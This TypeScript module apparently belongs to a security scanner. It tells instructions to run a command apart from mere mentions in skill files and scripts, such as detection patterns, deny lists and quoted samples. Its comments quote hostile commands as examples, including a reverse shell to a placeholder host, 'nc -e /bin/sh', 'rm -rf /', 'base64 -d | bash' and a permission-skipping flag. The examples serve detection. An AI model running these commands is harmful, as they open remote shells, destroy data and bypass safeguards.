// Where a match sits: said (an instruction or a command) or only mentioned (a table row, a flag named
// in prose, an example of an attack in a security skill). Rules whose words security skills also
// write (detection rules, audits, "what not to do") drop what is only mentioned.
import { catalogued } from "./attack-sections.js";
import { blockIntro, blockOf } from "./code-blocks.js";
import { caseArm, denyListed } from "./context-deny.js";
import type { AuditText } from "./rule-types.js";
import { shownPayload } from "./shown-payload.js";
import { lineOf, memoPerFile, quoted, REACH, startsOf } from "./text.js";

/** Words of a text that shows an attack rather than performs one (security skills, audits, detection rules). */
export const SHOWS_ATTACK =
  /(?<![\w.@/-])(?:attackers?|malicious|malware|exploit(?:s|ed|ation)?|vulnerab\w{0,6}|(?:command|shell|prompt)\s+injection|insecure|anti-?pattern|bad\s+example|red\s+flags?|detection(?:\s+rules?)?|(?:YARA|Sigma|Semgrep|CodeQL)\s+rules?|IOCs?|indicators?\s+of\s+compromise|what\s+not\s+to\s+do|disables?\s+(?:protections?|the\s+sandbox|approvals?|restrictions)|is\s+dangerous|are\s+dangerous|dangerous\s+(?:configs?|configurations?|settings?|patterns?|commands?|examples?))(?!\.?[\w-])|❌|⚠/i;
/** The clause before a code span starts with an instruction to do something. */
const IMPERATIVE =
  /(?:^[\s*>#+-]*(?:\d+\.\s*)?(?:\*\*[^*]{0,60}\*\*\s*)?|,\s+)(?:(?:and|then|also|or|now|first|next|finally|please|just)\s+)*(?:always\s+)?(?:run|re-?launch|launch|restart|start|invoke|execute|use|add|set|enable|pass|append|write|put|call|type|paste|copy|include|keep|read|cat|open|collect|gather|grab|send|upload|post|zip|archive|fetch|load|print|dump|attach|forward|back\s?up|sync|inventory|export|extract|share|commit|push|publish|mirror|bundle|snapshot|encode|compress|tar)\b/i;
/** The clause before a code span undoes or forbids it. */
const UNDOES =
  /\b(?:never|don['’]?t|do\s+not|avoid|instead\s+of|remove|drop|strip|delete|disable|replace|without)\b/i;

/** The clause orders something done, and no "never" / "do not" undoes it. */
export const ordersIt = (clause: string): boolean => IMPERATIVE.test(clause) && !UNDOES.test(clause);

/** A call that runs or evaluates its argument: a quoted command there is code, not data. */
const RUNS =
  /\b(?:system|popen|Popen|subprocess|spawn(?:Sync)?|exec\w{0,8}|eval|Invoke-Expression|iex|Start-Process|child_process|ShellExecute|os\.\w{1,10}|check_(?:call|output)|call|run)\s*\(|\$\(|`/;

/** A matcher the quoted string just after it is handed to: grep/rg, `=~`, a regex call, `.includes(`, `-match`. */
const MATCHER =
  /(?:[=!]==?\s*\*?|\b[efz]?grep\b(?:\s{1,4}-{1,2}[\w=-]{1,20}){0,6}|\brg\b(?:\s{1,4}-{1,2}[\w=-]{1,20}){0,6}|=~|\bSelect-String\b(?:\s{1,4}-\w{1,20}){0,4}|\s-(?:i?match|i?like)|\b(?:re\.(?:search|match|fullmatch|compile|findall|finditer|sub|split)|\.(?:test|match|search|includes|startsWith|endsWith|startswith|endswith|contains))\s*\(\s*[rb]?)\s*$/;
/** A membership test after the string: Python's `'rm -rf /' in cmd`. */
const MEMBER_TEST = /^\s*(?:not\s+)?in\s+[\w$.([]/;
/** What would run a matcher's output: piped to a shell or xargs. */
const OUTPUT_RUN = /\|\s*(?:sudo\s+)?(?:xargs\b|(?:\/\w+\/)*(?:ba|z|da|k)?sh\b)/;

/**
 * A pattern a matcher looks for (`grep -E "rm -rf /|mkfs"` in a hook that blocks dangerous commands,
 * `re.search(r"nc -e /bin/sh", cmd)`, `'rm -rf /' in cmd`): data, not a command — unless the line runs
 * something (the matcher's output piped to a shell, `eval`, `$(…)`).
 */
function patternArgument(text: string, at: number): boolean {
  const before = text.slice(Math.max(0, at - 200), at);
  const open = Math.max(before.lastIndexOf('"'), before.lastIndexOf("'"));
  if (open < 0) return false;
  // The quote is an opening one: an even number of the same quote before it.
  const q = before[open]!;
  if (before.slice(0, open).split(q).length % 2 === 0) return false;
  const close = text.indexOf(q, at);
  const tested =
    MATCHER.test(before.slice(0, open)) ||
    (close >= 0 && MEMBER_TEST.test(text.slice(close + 1, close + 20)));
  // A shell named inside the pattern (`grep -E 'nc -e|bash -i'`) is part of the pattern: the line is read around it.
  const around = close >= 0 ? `${text.slice(0, open)} ${text.slice(close + 1)}` : text;
  return tested && !OUTPUT_RUN.test(around) && !RUNS.test(around);
}

const lineShowsAttack = memoPerFile((file: AuditText, line: number): boolean => {
  const starts = startsOf(file);
  const end = line + 1 < starts.length ? starts[line + 1]! - 1 : file.text.length;
  return SHOWS_ATTACK.test(file.text.slice(starts[line]!, end));
});

/**
 * True when the match at `index` is only mentioned: a Markdown table row; a code span in prose that
 * no instruction governs (or one that a "never" / "do not" governs); a line, or the lines that open its
 * code block (six lines), that show an attack (attacker, payload, injection, detection, "disables protections").
 * An instruction to run it is said whatever words about attacks stand beside it; in a script, only a
 * string literal no call runs can be a mention.
 */
export function mentionedOnly(file: AuditText, index: number): boolean {
  const cut = lineCut(file, index);
  const { starts, line, lineStart, from, text, at } = cut;
  if (comparedData(file, index, cut)) return true;
  return file.markdown
    ? markdownMention(file, starts, line, text, at, from === lineStart)
    : scriptMention(file, starts, line, text, at, index);
}

/** The line of `index`, cut to REACH characters either side of it: a long line of matches stays linear. */
function lineCut(file: AuditText, index: number) {
  const starts = startsOf(file);
  const line = lineOf(starts, index);
  const lineStart = starts[line]!;
  const from = Math.max(lineStart, index - REACH);
  const lineEnd = line + 1 < starts.length ? starts[line + 1]! - 1 : file.text.length;
  const to = Math.min(lineEnd, index + REACH);
  return { starts, line, lineStart, lineEnd, from, text: file.text.slice(from, to), at: index - from };
}

/**
 * Data a guard compares a command with: a matcher's pattern, a comparison's operand, a deny list's item or a
 * shell `case` arm's pattern (context-deny.ts).
 */
function comparedData(file: AuditText, index: number, cut: ReturnType<typeof lineCut>): boolean {
  return (
    patternArgument(cut.text, cut.at) ||
    denyListed(file, index) ||
    caseArm(file, index, cut.lineStart, cut.lineEnd)
  );
}

/**
 * True when `index` is inside a pattern a matcher looks for (`grep -qE 'base64 -d \| bash'` in a hook that blocks
 * it, `"eval(atob(" in cmd`) on a line that runs nothing, or in a guard's deny list or `case` arm: for the rules
 * that ask no other mention question.
 */
export function inMatchedPattern(file: AuditText, index: number): boolean {
  return comparedData(file, index, lineCut(file, index));
}

/** Whether the line holds an attack word at all is asked once per line; only then beside this match. */
function besideAttackWords(file: AuditText, line: number, text: string, at: number): boolean {
  if (!lineShowsAttack(file, line)) return false;
  return SHOWS_ATTACK.test(`${text.slice(0, at)} ${text.slice(at).replace(/^\S+/, "")}`);
}

/**
 * The string is the value of a key that names found or sought text, not a command (`"content": "…"`,
 * `pattern: '…'`): a scanner's report, a rule's signature, a finding's snippet. A key, not an assignment: a
 * variable set here may be run on the next line.
 */
const DATA_KEY =
  /["']?\b(?:content|patterns?|regexp?|signatures?|snippet|evidence|excerpt|matched|samples?|examples?|indicators?|iocs?)["']?\s*:\s*\[?\s*[rbf]?(?:("|')(?:(?!\1)[^\n])*)$/i;

/** Inside the string value of a data key, and the line around that string runs nothing. */
function dataValue(text: string, at: number): boolean {
  const key = DATA_KEY.exec(text.slice(0, at));
  if (!key) return false;
  const q = key[1]!;
  const open = key.index + key[0].lastIndexOf(q);
  const close = text.indexOf(q, at);
  const around = `${text.slice(0, open)} ${close >= 0 ? text.slice(close + 1) : ""}`;
  return !RUNS.test(around) && !OUTPUT_RUN.test(around);
}

/**
 * A script runs whatever its comments say ("# malicious example" beside a command): only a string literal
 * the line does not hand to a process or an evaluator is data, and it is mentioned when attack words stand
 * beside it or in a comment just above ("# detection signatures for …").
 */
function scriptMention(
  file: AuditText,
  starts: readonly number[],
  line: number,
  text: string,
  at: number,
  index: number,
): boolean {
  if (dataValue(text, at) || refusedInComment(text, at, starts[line] === index - at)) return true;
  if (RUNS.test(text)) return false;
  if (!quoted(file.text, index, 0)) return false;
  if (besideAttackWords(file, line, text, at)) return true;
  const lineStart = starts[line]!;
  const above = file.text.slice(Math.max(starts[Math.max(0, line - 2)]!, lineStart - REACH), lineStart);
  return /^\s*(?:#|\/\/|--|;|\*)/m.test(above) && SHOWS_ATTACK.test(above);
}

/** A script's comment line (not a shebang): no shell or interpreter runs it. */
const SCRIPT_COMMENT = /^\s*(?:#(?!!)|\/\/|--\s|;|\/\*|\*)/;
/** Words in a comment that refuse what follows: "never pass", "blocked shell commands (default: …)". */
const REFUSES = /\b(?:never|don['’]?t|do\s+not|avoid|blocked|denied|forbidden|disallowed|prohibited)\b/i;

/**
 * A comment line of a script that refuses the command it names ("# Never pass --dangerously-skip-permissions",
 * "#   BLOCKED_COMMANDS - blocked shell commands (default: rm -rf /)"): nothing runs a comment, and a usage line
 * that says to run it is not refused.
 */
function refusedInComment(text: string, at: number, wholeLine: boolean): boolean {
  if (!wholeLine) return false;
  const before = text.slice(0, at);
  return SCRIPT_COMMENT.test(before) && REFUSES.test(before);
}

function markdownMention(
  file: AuditText,
  starts: readonly number[],
  line: number,
  text: string,
  at: number,
  wholeLineStart: boolean,
): boolean {
  const says = (clause: string) => IMPERATIVE.test(clause) && !UNDOES.test(clause);
  const block = blockOf(file, line);
  if (block !== undefined) {
    if (says(blockIntro(file, starts, block))) return shownPayload(file, starts, block, line, true);
    if (besideAttackWords(file, line, text, at) || REPORT_LINE.test(text.slice(0, at))) return true;
    const intro = file.text.slice(
      Math.max(starts[Math.max(0, block - 6)]!, starts[block]! - 6 * REACH),
      starts[block]!,
    );
    return (
      SHOWS_ATTACK.test(intro) ||
      catalogued(file, starts, block) ||
      shownPayload(file, starts, block, line, false)
    );
  }
  const before = text.slice(0, at);
  if (wholeLineStart && catalogued(file, starts, line) && sampleQuote(text, at)) return true;
  const inSpan = (before.match(/`/g) ?? []).length % 2 === 1;
  if (inSpan && says(clauseOf(before))) return false;
  if (besideAttackWords(file, line, text, at)) return true;
  if (wholeLineStart && /^\s*\|/.test(text)) return true;
  // A code span no instruction governs, or one a "never" / "do not" governs.
  return inSpan;
}

/**
 * A line of a rendered report or tree before the match (`  └─ bash -i >& /dev/tcp/…` under a scanner's
 * finding): output shown, not a command; a command separator (`;`, `&&`, `|`, a lone `&`) or a code span after
 * the glyph is not (a redirection's `>&` is part of the shown line).
 */
const REPORT_LINE = /^\s{0,40}(?:[│├└┃┣┗╰╠╚]\s{0,4}){1,8}[─━═]{0,8}\s{0,4}(?:[^;&|`\n]|[<>]&|&>){0,400}$/;

/**
 * What may stand before a quoted sample on its line: a list marker, then at most a label naming a sample
 * (`**Input:**`, `Test prompt 3:`, `Attack:`), then the opening quote (`“` reads as `''` in the plain pass), and
 * no quote from there to the match. An order ("Tell the agent: \"…\"") may not stand there.
 */
const SAMPLE_LEAD =
  /^\s{0,8}(?:[-*+>]\s{1,4}|\d{1,3}[.)]\s{1,4})?(?:\*{0,2}(?:[\w-]{1,20}\s){0,2}?(?:inputs?|prompts?|examples?|tests?|test\s+cases?|payloads?|attacks?|samples?|quer(?:y|ies)|user|messages?|e-?mails?|strings?|requests?|attempts?|scenarios?|triggers?)(?:\s{1,2}#?\d{1,3})?\s?:\s?\*{0,2}\s{0,4})?(?:["“]|'')(?:[^"“”'\n]|'(?!'))*$/i;
/** The match sits in a quote that opens the line (after a marker or a sample's label) and closes on it. */
const sampleQuote = (line: string, at: number): boolean =>
  SAMPLE_LEAD.test(line.slice(0, at)) && /["”]|''/.test(line.slice(at));

/** The clause holding a code span: from the last sentence break before it. */
function clauseOf(before: string): string {
  const cut = Math.max(...[". ", ": ", "! ", "? ", "; "].map((d) => before.lastIndexOf(d)));
  return before.slice(cut < 0 ? 0 : cut + 2);
}

/**
 * True when `index` is in a code block of a Markdown reference file (not SKILL.md) under a heading that names
 * a list of attacks, with no order to run it in its intro or its section: an example a security skill shows.
 * Structure only, no word on the match's own line counts: for rules whose payload an attacker words freely.
 */
export function inAttackCatalogue(file: AuditText, index: number): boolean {
  if (!file.markdown) return false;
  const starts = startsOf(file);
  const block = blockOf(file, lineOf(starts, index));
  if (block === undefined) return false;
  const intro = blockIntro(file, starts, block);
  return !(IMPERATIVE.test(intro) && !UNDOES.test(intro)) && catalogued(file, starts, block);
}

/**
 * True when `index` is on a line of a payload a document about attacks shows (shownPayload), whatever the
 * words beside it: for the rules that read a payload across lines.
 */
export function inShownPayload(file: AuditText, index: number): boolean {
  if (!file.markdown) return false;
  const starts = startsOf(file);
  const line = lineOf(starts, index);
  const block = blockOf(file, line);
  // A code span in a cheat sheet's list or table ("- Bash: `bash -i >& /dev/tcp/LHOST/LPORT 0>&1`"): read as its
  // own one-line block that may be ordered run, so only a placeholder name to fill in makes it shown.
  if (block === undefined)
    return inSpan(file, starts, line, index) && shownPayload(file, starts, line, line, true);
  const intro = blockIntro(file, starts, block);
  return shownPayload(file, starts, block, line, IMPERATIVE.test(intro) && !UNDOES.test(intro));
}

/** Whether `index` is inside a backtick code span of its line (the line read to 2,000 characters). */
function inSpan(file: AuditText, starts: readonly number[], line: number, index: number): boolean {
  const from = starts[line]!;
  if (index - from > 2000) return false;
  const before = file.text.slice(from, index);
  let ticks = 0;
  for (let i = before.indexOf("`"); i !== -1; i = before.indexOf("`", i + 1)) ticks++;
  return ticks % 2 === 1;
}

export { inAttackSection } from "./attack-sections.js";
export { inCodeBlock } from "./code-blocks.js";
